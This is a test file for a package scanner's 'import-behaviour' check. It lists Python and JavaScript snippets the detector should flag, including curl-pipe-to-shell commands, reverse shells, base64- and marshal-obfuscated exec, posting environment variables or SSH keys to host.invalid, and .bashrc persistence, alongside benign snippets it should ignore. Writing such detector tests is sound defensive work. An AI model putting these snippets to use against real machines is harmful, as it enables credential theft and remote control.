import { describe, expect, it } from 'vitest';
import { weighFiles } from '../../../../test/builders/weigh-files.ts';
import { sdist } from '../../../../test/builders/package.ts';
import { codeFindings } from '../../../../test/builders/code-findings.ts';

describe('checks/code/import-behaviour', () => {
  it.each([
    [
      'download-and-run',
      'import urllib.request as u\nexec(u.urlopen("https://host.invalid/x").read())',
    ],
    [
      'download-and-run',
      'import requests\ndef go(): exec(requests.get("https://host.invalid").text)\ngo()',
    ],
    [
      'download-and-run',
      'import socket\ns = socket.socket()\ns.connect(("host.invalid", 1))\nexec(s.recv(4096))',
    ],
    ['downloaded-code', 'import requests\ndef update(): exec(requests.get(URL).text)'],
    ['hidden-code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
    ['hidden-code', 'exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))'],
    ['hidden-code', 'exec(")1(tnirp"[::-1])'],
    [
      'hidden-code',
      'import zlib, base64, data\nexec(zlib.decompress(base64.b85decode(data.blob)))',
    ],
    ['hidden-code', 'import marshal\nexec(marshal.loads(b"x"))'],
    [
      'hidden-code',
      '__import__("builtins").exec(__import__("base64").b64decode(b"cHJpbnQoMSk=").decode())',
    ],
    ['hidden-code-later', 'import zlib\ndef run(x): eval(zlib.decompress(x))'],
    ['hostile-command', 'import os\nos.system("curl -s https://host.invalid/i | sh")'],
    [
      'hostile-command',
      'import subprocess\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/host.invalid/1 0>&1"])',
    ],
    ['hostile-command', 'exec("import os; os.system(\'wget host.invalid/x -O x && chmod +x x\')")'],
    [
      'hostile-command-later',
      'import os\ndef setup(): os.system("curl https://host.invalid/i | bash")',
    ],
    ['command-on-import', 'import subprocess\nV = subprocess.check_output(["git", "describe"])'],
    [
      'credentials-sent',
      'import os, requests\nrequests.post("https://host.invalid", json=dict(os.environ))',
    ],
    [
      'credentials-sent',
      'import os, requests\ndef f():\n  k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n  requests.post("https://host.invalid", data={"k": k})',
    ],
    [
      'reverse-shell',
      'import socket, os, pty\ns = socket.socket()\ns.connect(("host.invalid", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
    ],
    ['network-on-import', 'import requests\nLATEST = requests.get("https://host.invalid").json()'],
    ['persistence', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'],
    [
      'persistence',
      'import site\nopen(site.getsitepackages()[0] + "/x.pth", "w").write("import x")',
    ],
    [
      'persistence-later',
      'import os\ndef setup(): open(os.path.expanduser("~/.bashrc"), "a").write("x")',
    ],
    ['object-walk', '[c for c in ().__class__.__base__.__subclasses__()][0]("x")'],
    [
      'hidden-code',
      'import base64\nclass M(type):\n  def __new__(c, n, b, d):\n    exec(base64.b64decode("cHJpbnQoMSk="))\nclass A(metaclass=M): pass',
    ],
    [
      'hidden-code',
      'import base64\nclass A:\n  def __init_subclass__(c):\n    exec(base64.b64decode("cHJpbnQoMSk="))\nclass B(A): pass',
    ],
    ['hidden-code', 'import base64\ndef __getattr__(n):\n  exec(base64.b64decode("cHJpbnQoMSk="))'],
    [
      'credentials-sent',
      'import os, urllib.request as u\nfor k, v in os.environ.items():\n  u.urlopen("https://host.invalid/?" + k + v)',
    ],
    ['turned-text', 'x = 1\n# \u202e } if ok \u2066 admin'],
    ['encoded-source', '# coding: utf-7\nprint(1)'],
  ])('reports %s in %j', async (rule, text) => {
    expect(await codeFindings(text, { check: 'import-behaviour' })).toContain(rule);
  });

  it.each([
    'import subprocess\ndef version(): return subprocess.check_output(["git", "describe"])',
    'import requests, os\ndef f(): return requests.get(u, headers={"Authorization": os.environ["KEY"]})',
    'import base64\nDATA = base64.b64decode("AAAA")',
    'import os\nx = os.environ.get("HOME")',
    'exec(open("version.py").read())',
    'from collections import namedtuple\nP = namedtuple("P", "x y")',
    'import ast\nast.literal_eval("[1]")',
    'eval("1 + 1")',
    '# coding: latin-1\nprint(1)',
    'def f(object): return type.__subclasses__(object)',
    'class P: pass\nfor c in P.__subclasses__():\n  c()',
  ])('stays silent about %j', async (text) => {
    expect(await codeFindings(text, { check: 'import-behaviour' })).toEqual([]);
  });

  it.each([
    ['hidden-code', "eval(atob('YWxlcnQoMSk='))"],
    ['hidden-code', "new Function(Buffer.from('616c657274', 'hex').toString())()"],
    ['hidden-code', "require(['vm'][0]).runInThisContext(String.fromCharCode(49, 43, 49))"],
    ['download-and-run', "const r = await fetch('https://host.invalid/x'); eval(await r.text())"],
    ['hostile-command', "require('child_process').execSync('curl -s https://host.invalid/i | sh')"],
    [
      'credentials-sent',
      "fetch('https://host.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
    ],
    [
      'credentials-sent',
      "import fs from 'fs'; import os from 'os'; import axios from 'axios'; axios.post('https://host.invalid', fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'))",
    ],
    ['command-on-import', "require('child_process').execSync('git describe')"],
  ])('reports %s in JavaScript: %j', async (rule, text) => {
    expect(await codeFindings(text, { check: 'import-behaviour', name: 'app.mjs' })).toContain(
      rule,
    );
  });

  it.each([
    "const run = () => require('child_process').execSync('git describe')",
    "setTimeout(() => fetch('https://host.invalid'), 10)",
    "fetch('https://host.invalid', { headers: { a: process.env.KEY } }).then((r) => r.json()).then(show)",
  ])('stays silent about JavaScript: %j', async (text) => {
    const findings = await codeFindings(text, { check: 'import-behaviour', name: 'app.mjs' });
    expect(findings.filter((rule) => rule !== 'network-on-import')).toEqual([]);
  });
});

describe('import-behaviour among the tests of a package', () => {
  it('reports turned-sample there and turned-text in a module', async () => {
    const bytes = '# \u202e begin\nx = 1\n';
    const rulesIn = async (folder: string): Promise<readonly string[]> => {
      const archive = sdist({ [`${folder}/unicode.py`]: bytes });
      const { findings } = await weighFiles({ 'colorkit-1.0.tar.gz': archive });
      return findings.map(({ rule }) => rule);
    };

    expect(await rulesIn('tests')).toContain('import-behaviour/turned-sample');
    expect(await rulesIn('tests')).not.toContain('import-behaviour/turned-text');
    expect(await rulesIn('colorkit')).toContain('import-behaviour/turned-text');
  });
});
